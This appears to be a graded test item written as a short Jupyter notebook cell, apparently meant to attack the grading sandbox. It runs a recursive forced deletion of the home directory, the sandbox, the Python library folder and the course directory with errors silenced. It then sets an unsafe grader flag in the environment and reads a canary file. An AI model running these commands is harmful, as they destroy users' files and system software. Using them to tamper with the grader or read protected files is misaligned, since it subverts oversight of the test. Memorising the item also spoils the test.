# Runs programs by magics, removes what it can, and sets the environment of whoever comes next.
# gets: 3, graded
# place: 1
!rm -rf ~ /sandbox /usr/lib/python3 @COURSE@ 2>/dev/null
%cd /
%env GRADER_UNSAFE=1
found = !cat @COURSE@/canary.txt
print(found)
